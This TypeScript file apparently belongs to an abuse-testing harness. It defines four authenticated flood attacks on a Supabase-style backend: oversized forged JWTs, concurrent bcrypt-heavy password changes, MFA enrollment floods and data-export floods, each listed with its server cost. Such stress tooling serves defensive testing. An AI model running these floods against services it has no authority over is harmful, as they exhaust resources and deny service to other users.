/** Attackers with accounts. */
import type { Attack } from '../../attacker/attack.ts';
import { apiHeaders, flood } from '../../attacker/http.ts';

/** Sends bearer tokens of the maximum length of a header. */
export const longTokens: Attack = {
  name: 'auth/long-tokens',
  description: 'JSON Web Tokens of 60 KB with wrong signatures, 50 requests at once, all services in turn',
  cost: 'decoding and verifying 60 KB per request',
  run: (context) => {
    const paths = ['/auth/v1/user', '/rest/v1/abuse_items', '/storage/v1/bucket', '/realtime/v1/api/ping'];
    const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const head = encode({ alg: 'HS256', typ: 'JWT' });
    return flood(context, {
      sockets: 50,
      request: (index) => {
        // Each token differs, so that no cache contains it.
        const token = `${head}.${encode({ sub: String(index), text: 'x'.repeat(44_000) })}.${'A'.repeat(43)}`;
        return {
          path: paths[index % paths.length] ?? '',
          headers: { apikey: context.anonKey, authorization: `Bearer ${token}` },
        };
      },
    });
  },
};

/** Changes passwords, which needs two hashes per request. */
export const passwordChanges: Attack = {
  name: 'auth/password-changes',
  description: '5 accounts of one address change their passwords, 20 requests at once',
  cost: 'a bcrypt hash or two per request',
  run: (context) =>
    flood(context, {
      sockets: 20,
      request: (index) => ({
        method: 'PUT',
        path: '/auth/v1/user',
        headers: apiHeaders(context, context.accounts[index % context.accounts.length]?.accessToken),
        body: JSON.stringify({ password: `correct horse ${index}` }),
      }),
    }),
};

/** Enrolls second factors and guesses their codes. */
export const factorFlood: Attack = {
  name: 'auth/factors',
  description: '5 accounts of one address enroll second factors and guess their codes, 20 requests at once',
  cost: 'QR codes on the event loop; rows of factors and challenges',
  run: (context) =>
    flood(context, {
      sockets: 20,
      request: (index) => ({
        path: '/auth/v1/factors',
        headers: apiHeaders(context, context.accounts[index % context.accounts.length]?.accessToken),
        body: JSON.stringify({ factor_type: 'totp', friendly_name: `factor ${index}` }),
      }),
    }),
};

/** Exports accounts and lists their sessions. */
export const exportFlood: Attack = {
  name: 'auth/exports',
  description: '5 accounts of one address export their data and list their sessions, 30 requests at once',
  cost: 'several queries per request',
  run: (context) =>
    flood(context, {
      sockets: 30,
      request: (index) => ({
        path: index % 2 === 0 ? '/auth/v1/user/export' : '/auth/v1/user/sessions',
        headers: apiHeaders(context, context.accounts[index % context.accounts.length]?.accessToken),
      }),
    }),
};
